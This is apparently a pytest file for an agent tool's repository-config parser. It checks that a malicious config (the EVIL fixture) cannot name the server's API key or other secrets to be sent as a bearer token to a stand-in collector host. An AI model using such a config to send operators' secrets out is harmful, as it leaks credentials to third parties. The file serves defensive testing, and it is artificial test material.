"""A repository's `auth_secret` can only name a variable the operator set aside for exports."""

from __future__ import annotations

import gzip
from pathlib import Path

import httpx
import pytest
import respx
from attack_repos import make_repo
from typer.testing import CliRunner

from agentmend.cli import app
from agentmend.repo_config import ConfigError, parse_config
from agentmend.web import fetch

KEY = "sk-ant-api03-operators-real-key"
EVIL = """version: 1
exports:
  - path: "exports/*.jsonl"
  - url: https://collector.example/x.jsonl
    auth_secret: {secret}
"""
BODY = b'{"id": "l1", "messages": [{"role": "user", "content": "hi"}]}\n'


@pytest.fixture
def lookups(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """DNS look-ups the fetcher makes (the first thing it does before a request)."""
    seen: list[str] = []

    def resolve(host: str) -> list[str]:
        seen.append(host)
        return ["93.184.216.34"]

    monkeypatch.setattr(fetch, "resolve_host", resolve)
    return seen


@pytest.mark.parametrize("secret", ["ANTHROPIC_API_KEY", "AGENTMEND_WEBHOOK_SECRET", "HOME", "PATH"])
def test_naming_the_servers_own_secrets_is_refused_before_any_network(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lookups: list[str], secret: str
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    monkeypatch.setenv("AGENTMEND_WEBHOOK_SECRET", KEY)
    monkeypatch.delenv("AGENTMEND_EXPORT_SECRETS", raising=False)
    repo = make_repo(tmp_path / "evil", config=EVIL.format(secret=secret))
    with respx.mock(assert_all_called=False) as mock:
        everything = mock.route().mock(return_value=httpx.Response(200, content=BODY))
        result = CliRunner().invoke(app, ["analyze", str(repo)])
    assert result.exit_code == 2
    assert "exports.1.auth_secret" in result.output and secret in result.output
    assert "AGENTMEND_EXPORT_" in result.output  # says what would be allowed
    assert KEY not in result.output
    assert everything.calls.call_count == 0 and lookups == []


def test_an_export_variable_is_sent_only_when_the_operator_allowed_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lookups: list[str]
) -> None:
    monkeypatch.setenv("COLLECTOR_TOKEN", "tok-1")
    monkeypatch.setenv("AGENTMEND_EXPORT_SECRETS", "COLLECTOR_TOKEN@collector.example")
    cfg = parse_config(EVIL.format(secret="COLLECTOR_TOKEN"))
    assert cfg.exports[1].auth_secret == "COLLECTOR_TOKEN"
    with pytest.raises(ConfigError, match=r"exports\.0\.auth_secret: COLLECTOR_TOKEN may not"):
        parse_config(
            "version: 1\nexports:\n  - url: https://elsewhere.example/x\n    auth_secret: COLLECTOR_TOKEN\n"
        )

    monkeypatch.setenv("AGENTMEND_EXPORT_COLLECTOR", "tok-2")
    repo = make_repo(tmp_path / "ok", config=EVIL.format(secret="AGENTMEND_EXPORT_COLLECTOR"))
    with respx.mock(assert_all_called=False) as mock:
        route = mock.get("https://collector.example/x.jsonl").mock(
            return_value=httpx.Response(200, content=gzip.compress(BODY))
        )
        result = CliRunner().invoke(app, ["analyze", str(repo)])
    assert result.exit_code == 0, result.output
    assert route.calls.last.request.headers["Authorization"] == "Bearer tok-2"
    assert lookups == ["collector.example"]


def test_an_explicit_allow_list_replaces_the_environment_one() -> None:
    text = EVIL.format(secret="EXPORT_TOKEN")
    assert parse_config(text, export_secrets={"EXPORT_TOKEN"}).exports[1].auth_secret == "EXPORT_TOKEN"
    with pytest.raises(ConfigError, match=r"exports\.1\.auth_secret"):
        parse_config(text, export_secrets=())
    with pytest.raises(ConfigError, match=r"exports\.1\.auth_secret"):
        parse_config(EVIL.format(secret="AGENTMEND_EXPORT_SECRETS"), export_secrets=())
